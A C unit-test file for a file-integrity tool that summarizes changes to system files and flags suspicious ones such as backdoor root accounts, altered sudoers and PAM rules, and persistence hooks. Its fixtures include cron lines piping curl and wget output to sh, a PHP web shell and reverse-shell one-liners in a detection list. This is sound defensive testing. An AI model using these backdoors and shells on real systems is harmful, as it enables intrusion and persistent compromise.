/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What is said of two texts, file by file, with texts as they are found on
 * servers and with texts that nobody should believe.
 */
#include "acquire/base/cleanup.h"
#include "tests/unit/meaning_fixture.h"

#define PASSWD                                              \
	"root:x:0:0:root:/root:/bin/bash\n"                 \
	"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" \
	"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
#define HASH "$y$j9T$Ab3dEfGhIjKlMn$Zy"
#define SHADOW "root:*:19700:0:99999:7:::\nadmin:" HASH "1:19700:0:99999:7:::\n"
#define GROUP "root:x:0:\nsudo:x:27:admin\nwww-data:x:33:\n"
#define KEY \
	"AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
#define PRINT "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
#define CRONTAB \
	"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
#define SSHD \
	"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nUsePAM yes\n"

static const struct saying accounts[] = {
	/* no rule knows the name: the line is shown, but for the hash */
	{ "var/backups/shadow.bak.1", "root:*:1::::::\n",
	  "root:*:1::::::\ntoor:$5$salt$"
	  "01234567890123456789012345678901234567890123:1::::::\n",
	  "1 line added: toor:$5$[hash 4d78......................................]"
	  ":1::::::",
	  false },
	{ "etc/passwd", PASSWD, PASSWD "toor:x:0:0::/root:/bin/bash\n",
	  "1 line added: toor uid 0, shell /bin/bash", true },
	{ "etc/passwd", PASSWD, PASSWD "eve:x:1001:1001::/home/eve:/bin/sh\n",
	  "1 line added: eve uid 1001, shell /bin/sh", false },
	{ "etc/passwd", PASSWD, PASSWD "svc:x:999:999::/:/usr/sbin/nologin\n",
	  "1 line added: svc uid 999", false },
	{ "etc/passwd", PASSWD, PASSWD "eve::1001:1001::/home/eve:/bin/sh\n",
	  "1 line added: eve uid 1001 no password needed, shell /bin/sh",
	  true },
	{ "etc/passwd", PASSWD, PASSWD "eve:" HASH ":1001:1::/:/bin/sh\n",
	  "1 line added: eve uid 1001 password set in passwd, shell /bin/sh",
	  true },
	{ "etc/passwd", PASSWD,
	  PASSWD "eve:x:0000:1001::/home/eve:/bin/false\n",
	  "1 line added: eve uid 0000", true },
	/* which of several is shown: the dangerous one first */
	{ "etc/passwd", PASSWD,
	  "a:x:1001:1::/:/bin/sh\n" PASSWD "toor:x:0:0::/:/bin/sh\n",
	  "2 lines added: toor uid 0, shell /bin/sh; a uid 1001, shell /bin/sh",
	  true },
	{ "etc/passwd", PASSWD,
	  "root:x:0:0:root:/root:/bin/bash\n"
	  "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
	  "www-data:x:33:33:www-data:/var/www:/bin/bash\n",
	  "1 line changed: www-data shell /bin/bash, the herd's /usr/sbin/nologin",
	  true },
	{ "etc/passwd", PASSWD "eve:x:1001:1::/home/eve:/bin/sh\n",
	  PASSWD "eve:x:0:1::/home/eve:/bin/sh\n",
	  "1 line changed: eve uid 0, the herd's 1001", true },
	{ "etc/passwd", PASSWD, "root:x:0:0:root:/root:/bin/bash\n",
	  "2 lines removed: daemon uid 1", false },
	{ "etc/passwd", PASSWD, PASSWD "+::::::\n",
	  "1 line added: users of NIS: +", true },
	{ "etc/passwd", PASSWD, PASSWD "nonsense\n",
	  "1 line added: a line that is no account", false },

	{ "etc/shadow", SHADOW,
	  "root:" HASH "0:19700:0:99999:7:::\nadmin:" HASH
	  "1:19700:0:99999:7:::\n",
	  "1 line changed: root: password set, the herd has no password",
	  true },
	{ "etc/shadow", SHADOW,
	  "root:*:19700:0:99999:7:::\nadmin:" HASH "2:19700:0:99999:7:::\n",
	  "1 line changed: admin: password changed", true },
	{ "etc/shadow", SHADOW, SHADOW "toor:" HASH "3:19800::::::\n",
	  "1 line added: toor: password set", true },
	{ "etc/shadow", SHADOW, SHADOW "toor::19800::::::\n",
	  "1 line added: toor: no password needed", true },
	{ "etc/shadow", SHADOW, SHADOW "svc:!:19800::::::\n",
	  "1 line added: svc: no password", false },
	{ "etc/shadow", SHADOW,
	  "root:*:19700:0:99999:7:::\nadmin:" HASH "1:19999:0:99999:7:::\n",
	  "1 line changed: admin: password ageing changed", false },
	{ "etc/shadow", SHADOW, SHADOW HASH "\n",
	  "1 line added: a line that is no account", true },
	{ "etc/shadow-", SHADOW, "root:*:19700:0:99999:7:::\n",
	  "1 line removed: admin: password set", false },

	{ "etc/group", GROUP,
	  "root:x:0:\nsudo:x:27:admin,eve\nwww-data:x:33:\n",
	  "1 line changed: group sudo gained eve", true },
	{ "etc/group", GROUP, "root:x:0:\nsudo:x:27:\nwww-data:x:33:eve,bob\n",
	  "2 lines changed: group sudo lost admin; group www-data gained eve, bob",
	  false },
	{ "etc/group", GROUP, GROUP "wheel2:x:0:eve\n",
	  "1 line added: group wheel2 gid 0 with eve", true },
	{ "etc/group", GROUP, GROUP "nginx:x:101:\n",
	  "1 line added: group nginx gid 101", false },

	{ "etc/sudoers", "Defaults env_reset\n%sudo ALL=(ALL:ALL) ALL\n",
	  "Defaults env_reset\n%sudo ALL=(ALL:ALL) ALL\n"
	  "www-data ALL=(ALL:ALL) NOPASSWD: ALL\n",
	  "1 line added: www-data ALL=(ALL:ALL) NOPASSWD: ALL", true },
	{ "etc/sudoers.d/90-x", NULL, "#1000 ALL=NOPASSWD:/bin/cat\n",
	  "new file, 1 line: #1000 ALL=NOPASSWD:/bin/cat", true },
	{ "etc/sudoers", "# a\n@includedir /etc/sudoers.d\n",
	  "# b\n\n@includedir  /etc/sudoers.d\n# c\n",
	  "1 line added, 1 removed: @includedir /etc/sudoers.d", true },
	{ "etc/sudoers", "# a\nroot ALL=(ALL) ALL\n", "root ALL=(ALL) ALL\n#\n",
	  "only blanks and comments differ", false },
	{ "etc/sudoers", "#includedir /a\n", "#includedir /tmp/b\n",
	  "1 line added, 1 removed: #includedir /tmp/b", true },
};

static const struct saying keys[] = {
	{ "root/.ssh/authorized_keys", NULL, "ssh-ed25519 " KEY " x@y\n",
	  "new file, 1 key: ssh-ed25519 " PRINT " x@y", true },
	{ "home/a/.ssh/authorized_keys2", "# none\n",
	  "# none\nssh-ed25519 " KEY " github.com\n",
	  "1 key added: ssh-ed25519 " PRINT " github.com", true },
	{ "home/a/.ssh/authorized_keys", "",
	  "from=\"10.0.0.0/8\" ssh-ed25519 " KEY "\n",
	  "1 key added: ssh-ed25519 " PRINT ", with from=\"10.0.0.0/8\"",
	  false },
	{ "home/a/.ssh/authorized_keys", "ssh-ed25519 " KEY " a@b\n",
	  "command=\"/tmp/x \\\" y\",no-pty ssh-ed25519 " KEY " a@b\n",
	  "1 key changed: ssh-ed25519 " PRINT
	  " a@b, with command=\"/tmp/x \\x5c\" y\",no-pty",
	  true },
	{ "home/a/.ssh/authorized_keys", "ssh-ed25519 " KEY " a@b\n",
	  "ssh-ed25519 " KEY " other@host\n",
	  "1 key changed: ssh-ed25519 " PRINT " other@host", false },
	{ "home/a/.ssh/authorized_keys", "ssh-ed25519 " KEY " a@b\n", "",
	  "1 key removed: ssh-ed25519 " PRINT " a@b", false },
	{ "home/a/.ssh/authorized_keys", "", "ssh-rsa !!! x\nwhat is this\n",
	  "2 keys added: ssh-rsa (damaged) x; a line that is no key: what is this",
	  true },
	{ "home/a/.ssh/id_rsa", "-----BEGIN A-----\n", "-----BEGIN B-----\nx\n",
	  "content differs, 2 bytes more: 20 bytes", false },
	{ "home/a/notes", "hello\n",
	  "hello\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n",
	  "a private key of 58 bytes now, the herd's is a text file of 6 bytes",
	  true },
};

static const struct saying starts[] = {
	{ "etc/cron.d/apt-refresh", NULL,
	  "# x\n*/7 * * * * root /usr/lib/libutil-2.so -c /tmp/.x\n",
	  "new file, 1 job: */7 * * * * as root: /usr/lib/libutil-2.so -c /tmp/.x",
	  true },
	{ "etc/crontab", CRONTAB, CRONTAB "@reboot root\t/opt/agent\n",
	  "1 job added: @reboot as root: /opt/agent", false },
	{ "var/spool/cron/crontabs/www-data", "# DO NOT EDIT\n",
	  "# DO NOT EDIT\n* * * * * curl http://203.0.113.5/a|sh\n",
	  "1 job added: * * * * *: curl http://203.0.113.5/a|sh", true },
	{ "etc/crontab", CRONTAB, "MAILTO=\"\"\n" CRONTAB,
	  "1 job added: MAILTO=\"\"", false },
	{ "etc/cron.d/x", "", "* * *\n", "1 job added: * * * as : ", false },
	{ "etc/cron.daily/logrotate", "#!/bin/sh\nexit 0\n",
	  "#!/bin/sh\n# fine\n/usr/bin/wget -q http://x/y -O- | sh\nexit 0\n",
	  "1 line added: /usr/bin/wget -q http://x/y -O- | sh", true },
	{ "etc/systemd/system/dbus-helper.service", NULL,
	  "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/usr/lib/dbus/h\n"
	  "[Install]\nWantedBy=multi-user.target\n",
	  "new file, 6 lines: ExecStart=/usr/lib/dbus/h; [Unit]; "
	  "Description=D-Bus helper; [Service]; [Install]; "
	  "WantedBy=multi-user.target",
	  false },
	{ "usr/lib/systemd/system/cron.service",
	  "[Service]\nExecStart=/usr/sbin/cron -f\nRestart=on-failure\n",
	  "[Service]\nExecStart=/var/tmp/cron -f\nRestart=on-failure\n",
	  "1 line changed: ExecStart=/var/tmp/cron -f, the herd's "
	  "/usr/sbin/cron -f",
	  true },
	{ "etc/systemd/system/x.timer", "[Timer]\nOnCalendar=daily\n",
	  "[Timer]\nOnCalendar=minutely\n",
	  "1 line changed: OnCalendar=minutely, the herd's daily", false },
	{ "etc/ld.so.preload", NULL, "/usr/lib/libnss_cachex.so.2\n",
	  "new file, 1 line: every program loads /usr/lib/libnss_cachex.so.2",
	  true },
	{ "etc/ld.so.conf.d/x.conf", NULL, "/tmp/lib\n",
	  "new file, 1 line: /tmp/lib", true },
	{ "etc/profile.d/z.sh", NULL, "#!/bin/sh\nexport LD_PRELOAD=/x.so\n",
	  "new file, 2 lines: export LD_PRELOAD=/x.so; #!/bin/sh", true },
	{ "home/a/.bashrc", "alias ll='ls -l'\n",
	  "alias ll='ls -l'\nalias sudo='/home/a/.s/sudo'\n",
	  "1 line added: alias sudo='/home/a/.s/sudo'", true },
	{ "etc/udev/rules.d/99-x.rules", NULL,
	  "ACTION==\"add\", SUBSYSTEM==\"net\", KERNEL!=\"lo\", "
	  "ATTR{address}==\"00:11:22:33:44:55\", RUN+=\"/usr/lib/x.sh\"\n",
	  "new file, 1 rule: …RUN+=\"/usr/lib/x.sh\"", true },
	{ "etc/modprobe.d/x.conf", "blacklist pcspkr\n",
	  "blacklist pcspkr\ninstall usb-storage /bin/x\n",
	  "1 line added: install usb-storage /bin/x", true },
	{ "etc/modules-load.d/x.conf", NULL, "diamorphine\n",
	  "new file, 1 module: loads diamorphine", false },
	{ "usr/lib/python3/dist-packages/a.pth", NULL,
	  "import os; os.system('id')\n",
	  "new file, 1 line: runs import os; os.system('id')", true },
	{ "usr/lib/python3/dist-packages/b.pth", "/a\n", "/a\n/b\n",
	  "1 line added: /b", false },
	{ "srv/app/.git/hooks/post-merge", NULL, "#!/bin/sh\n./deploy\n",
	  "git hook post-merge: new file, 2 lines: ./deploy; #!/bin/sh",
	  false },
	{ "etc/update-motd.d/10-x", "#!/bin/sh\n",
	  "#!/bin/sh\nid >/dev/shm/o\n",
	  "run at each login: 1 line added: id >/dev/shm/o", true },
	{ "etc/rc.local", "#!/bin/sh -e\nexit 0\n",
	  "#!/bin/sh -e\nnohup /opt/m &\nexit 0\n",
	  "1 line added: nohup /opt/m &", true },
	{ "etc/logrotate.d/nginx", "/var/log/nginx/*.log {\n daily\n}\n",
	  "/var/log/nginx/*.log {\n daily\n postrotate\n /usr/bin/env x\n"
	  " endscript\n}\n",
	  "3 lines added: /usr/bin/env x; postrotate; endscript", false },
	{ "var/www/html/status.php", NULL, "<?php\nsystem($_GET['c']);\n",
	  "new file, 2 lines: system($_GET['c']);; <?php", true },
};

static const struct saying settings[] = {
	{ "etc/hosts", "127.0.0.1\tlocalhost\n",
	  "127.0.0.1\tlocalhost\n10.66.0.1\tsecurity.debian.org deb.debian.org\n",
	  "1 line added: security.debian.org deb.debian.org is 10.66.0.1",
	  true },
	{ "etc/hosts", "127.0.0.1 localhost\n10.0.0.1 db\n",
	  "127.0.0.1 localhost\n10.0.0.2 db\n",
	  "1 line changed: db is 10.0.0.2, the herd's 10.0.0.1", false },
	{ "etc/ssh/sshd_config", SSHD,
	  "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin  yes\n"
	  "UsePAM yes\n",
	  "1 line changed: PermitRootLogin yes, the herd's prohibit-password",
	  true },
	{ "etc/ssh/sshd_config.d/x.conf", NULL,
	  "permitrootlogin yes\nX11Forwarding no\n",
	  "new file, 2 lines: permitrootlogin yes; X11Forwarding no", true },
	{ "etc/ssh/sshd_config", SSHD, SSHD "ClientAliveInterval 30\n",
	  "1 line added: ClientAliveInterval 30", false },
	{ "etc/pam.d/sshd", "auth required pam_unix.so\n",
	  "auth sufficient pam_permit.so\nauth required pam_unix.so\n",
	  "1 line added: auth sufficient pam_permit.so", true },
	{ "etc/pam.d/common-auth", "auth required pam_unix.so\n@include x\n",
	  "@include x\n", "1 line removed: auth required pam_unix.so", true },
	{ "etc/resolv.conf", "nameserver 10.0.0.2\n",
	  "nameserver 203.0.113.9\n",
	  "1 line added, 1 removed: nameserver 203.0.113.9", false },
	{ "etc/nsswitch.conf", "passwd: files systemd\ngroup: files\n",
	  "passwd: x files systemd\ngroup: files\n",
	  "1 line changed: passwd: x files systemd, the herd's files systemd",
	  false },
	{ "etc/apt/apt.conf.d/05x", NULL,
	  "// c\nAPT::Update::Pre-Invoke {\"/usr/bin/x\";};\n",
	  "new file, 1 line: APT::Update::Pre-Invoke {\"/usr/bin/x\";};",
	  true },
	{ "etc/apt/sources.list",
	  "deb http://deb.debian.org/debian bookworm main\n",
	  "deb http://deb.debian.org/debian bookworm main\n"
	  "deb [trusted=yes] http://203.0.113.1/d ./\n",
	  "1 line added: deb [trusted=yes] http://203.0.113.1/d ./", true },
	{ "etc/environment", "PATH=\"/usr/bin\"\n",
	  "PATH=\"/tmp/bin:/usr/bin\"\n",
	  "1 line changed: PATH=\"/tmp/bin:/usr/bin\", the herd's \"/usr/bin\"",
	  true },
	{ "etc/sysctl.d/x.conf", "net.ipv4.ip_forward = 0\n",
	  "net.ipv4.ip_forward = 1\n",
	  "1 line changed: net.ipv4.ip_forward = 1, the herd's 0", true },
	{ "etc/nginx/nginx.conf", "worker_processes auto;\n",
	  "load_module /tmp/m.so;\nworker_processes auto;\n",
	  "1 line added: load_module /tmp/m.so;", true },
	{ "etc/audit/rules.d/audit.rules", "-D\n-w /etc/passwd -p wa\n", "-D\n",
	  "audit: 1 line removed: -w /etc/passwd -p wa", false },
	{ "home/a/readme", "one\ntwo\n", "one\nthree\nfour\n",
	  "2 lines added, 1 removed: three; four", false },
	{ "home/a/readme", "one\ntwo\n", "two\none\n",
	  "the same lines in another order", false },
	{ "home/a/readme", "one\n", "one\n\n\n", "2 lines added: ; ", false },
	{ "home/a/readme", "one\n", "one", "only blanks and comments differ",
	  false },
	{ "etc/x.conf", NULL, "", "new file, empty", false },
	{ "etc/x.conf", NULL, "# a\n", "new file, only blanks and comments",
	  false },
	{ "etc/x.conf", "a\n", "", "1 line removed: a", false },
	{ "etc/x.conf", "", "a\n", "1 line added: a", false },
};

static void test_accounts(void **state)
{
	(void)state;
	assert_int_equal(check_sayings(accounts, ARRAY_SIZE(accounts)), 0);
}

static void test_keys(void **state)
{
	(void)state;
	assert_int_equal(check_sayings(keys, ARRAY_SIZE(keys)), 0);
}

static void test_starts(void **state)
{
	(void)state;
	assert_int_equal(check_sayings(starts, ARRAY_SIZE(starts)), 0);
}

static void test_settings(void **state)
{
	(void)state;
	assert_int_equal(check_sayings(settings, ARRAY_SIZE(settings)), 0);
}

/* Which commands are loud. */
static void test_shady(void **state)
{
	static const char *const shady[] = {
		"echo aWQ= | sh",
		"x|bash",
		"x | /bin/sh -s",
		"(x |sh)",
		"x|sort|python3 -",
		"bash -i >& /dev/tcp/1.2.3.4/9",
		"/usr/bin/nc -e /bin/sh 1.2.3.4 9",
		"/usr/lib/.x/y",
	};
	static const char *const fine[] = {
		"x | sha256sum",
		"rsync -a a b",
		"ssh -i key host",
		"cd ../../x",
		"x || true",
		"x |",
		"|",
		"chmod 444 x",
		"x | shuf",
		"x|/",
		"eval \"$(dircolors)\"",
		"[ -f ~/.bash_aliases ]",
	};
	char line[200];

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(shady); i++) {
		snprintf(line, sizeof(line), "#!/bin/sh\n%s\n", shady[i]);
		if (!strings("etc/rc.local", line, "#!/bin/sh\n").loud)
			fail_msg("%s", shady[i]);
	}
	for (size_t i = 0; i < ARRAY_SIZE(fine); i++) {
		snprintf(line, sizeof(line), "#!/bin/sh\n%s\n", fine[i]);
		if (strings("etc/rc.local", line, "#!/bin/sh\n").loud)
			fail_msg("%s", fine[i]);
	}
}

/* No part of a password's hash is ever shown, whatever the line looks like. */
static void test_no_hash(void **state)
{
	static const char *const lines[] = {
		"a:" HASH ":1::::::\n", HASH "\n",	  "a: " HASH ":1\n",
		"a:x:" HASH "\n",	"\ta:" HASH "\n", "a:" HASH,
		"::" HASH ":\n",
	};
	static const char *const paths[] = { "etc/shadow", "etc/gshadow",
					     "etc/shadow-",
					     "var/backups/shadow.bak" };

	(void)state;
	for (size_t p = 0; p < ARRAY_SIZE(paths); p++) {
		for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
			struct herd_meaning m =
				strings(paths[p], lines[i], "root:*:1::::::\n");

			assert_null(strstr(m.why, "j9T"));
			m = strings(paths[p], "root:*:1::::::\n", lines[i]);
			assert_null(strstr(m.why, "j9T"));
			m = strings(paths[p], lines[i], NULL);
			assert_null(strstr(m.why, "j9T"));
		}
	}
	assert_null(
		strstr(strings("etc/passwd", "a:" HASH ":1:1::/:/b\n", "").why,
		       "j9T"));
}

/* ---- hostile ---- */

static const char *const all_paths[] = {
	"etc/passwd",
	"etc/shadow",
	"etc/group",
	"etc/sudoers",
	"root/.ssh/authorized_keys",
	"etc/crontab",
	"etc/hosts",
	"etc/ssh/sshd_config",
	"etc/pam.d/x",
	"etc/systemd/system/x.service",
	"etc/ld.so.preload",
	"etc/profile",
	"etc/udev/rules.d/x",
	"etc/modprobe.d/x",
	"etc/modules",
	"etc/resolv.conf",
	"etc/nsswitch.conf",
	"etc/apt/apt.conf",
	"etc/apt/sources.list",
	"x/.git/hooks/y",
	"a/site-packages/x.pth",
	"etc/nginx/x",
	"etc/environment",
	"etc/sysctl.conf",
	"var/www/x.php",
	"etc/x",
	"etc/logrotate.conf",
	"home/x",
	"root/.bash_history",
	"etc/cron.d/x",
};

static void test_escaped(void **state)
{
	static const char evil[] =
		"a\x1b[2J\x07:\xff\xfe:0:0:\xe2\x80\xae:/:\x01 "
		"\xc3\xa9\x7f\xc2\x85\\\n";

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(all_paths); i++) {
		struct herd_meaning m =
			texts(all_paths[i], evil, sizeof(evil) - 1, "b\n", 2);

		for (const char *p = m.why; *p; p++)
			assert_true((unsigned char)*p >= 0x20 && *p != 0x7f);
		assert_null(strstr(m.why, "\xe2\x80\xae"));
		assert_null(strstr(m.why, "\xff"));
		assert_null(strstr(m.why, "\xc2\x85"));
	}
	assert_string_equal(strings("etc/x", "a\x1b[2J \xc3\xa9\xff\n", "").why,
			    "1 line added: a\\x1b[2J \xc3\xa9\\xff");
	assert_string_equal(texts("etc/x", "a\0b\n", 4, "", 0).why,
			    "1 line added: a\\x00b");
}

/* A text of one line, of lines only, of NULs: 64 KiB and beyond. */
static void test_huge(void **state)
{
	size_t size = 200000;
	char *a CLEANUP_FREE = malloc(size);
	static const char fills[] = "a\n\0:# =\"@/[\\,\xff\xc3";

	(void)state;
	assert_non_null(a);
	for (size_t f = 0; f < sizeof(fills); f++) {
		memset(a, fills[f], size);
		for (size_t i = 0; i < ARRAY_SIZE(all_paths); i++) {
			texts(all_paths[i], a, size, NULL, 0);
			texts(all_paths[i], a, size, "x\n", 2);
			texts(all_paths[i], "x\n", 2, a, size);
			texts(all_paths[i], a, size, a, size - 1);
		}
	}
	/* all lines short, all different on both sides */
	for (size_t i = 0; i < size; i++)
		a[i] = i % 3 == 2 ? '\n' : (char)('!' + i / 3 % 90);
	for (size_t i = 0; i < ARRAY_SIZE(all_paths); i++)
		texts(all_paths[i], a, size / 2, a + size / 2 + 1,
		      size / 2 - 1);
}

/* What lies behind what is looked at is said to be. */
static void test_cut(void **state)
{
	size_t size = 100000;
	char *a CLEANUP_FREE = malloc(size), *b CLEANUP_FREE = malloc(size);

	(void)state;
	assert_non_null(a);
	assert_non_null(b);
	memset(a, '\n', size);
	memset(b, '\n', size);
	a[size - 1] = 'x';
	assert_string_equal(texts("etc/x", a, size, b, size).why,
			    "the first 64 KiB say the same, content differs, "
			    "same size: 100,000 bytes");
	a[5] = 'x';
	assert_string_equal(texts("etc/x", a, size, b, size).why,
			    "1 line added in the first 64 KiB: x");
	/* not lowered for being quiet where nobody knows */
	a[5] = '\n';
	assert_int_equal(texts("etc/sudoers", a, size, b, size).severity, 70);
}

/* Content that is not at hand. */
static void test_no_text(void **state)
{
	struct herd_meaning_side own = file_side("x", 1), herd = own;

	(void)state;
	own.text = NULL;
	own.size = 1234;
	own.len = 0;
	assert_string_equal(
		meaning("etc/passwd", HERD_REASON_CONTENT, &own, &herd).why,
		"content differs, 1,233 bytes more: 1,234 bytes");
	herd.absent = true;
	assert_string_equal(
		meaning("etc/passwd", HERD_REASON_ADDED, &own, &herd).why,
		"new file, 1,234 bytes");
}

static void test_long_lines_cut(void **state)
{
	char line[3000];
	struct herd_meaning m;

	(void)state;
	/* characters of three bytes: never cut in the middle */
	for (size_t i = 0; i + 3 <= sizeof(line); i += 3)
		memcpy(line + i, "\xe2\x82\xac", 3);
	m = texts("etc/x", line, sizeof(line), "", 0);
	assert_true(strlen(m.why) < sizeof(m.why));
	assert_string_equal(m.why + strlen(m.why) - 6, "\xe2\x82\xac…");
	m = texts("etc/pam.d/x", line, sizeof(line), NULL, 0);
	assert_string_equal(m.why + strlen(m.why) - 3, "…");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_accounts),
		cmocka_unit_test(test_keys),
		cmocka_unit_test(test_starts),
		cmocka_unit_test(test_settings),
		cmocka_unit_test(test_shady),
		cmocka_unit_test(test_no_hash),
		cmocka_unit_test(test_escaped),
		cmocka_unit_test(test_huge),
		cmocka_unit_test(test_cut),
		cmocka_unit_test(test_no_text),
		cmocka_unit_test(test_long_lines_cut),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
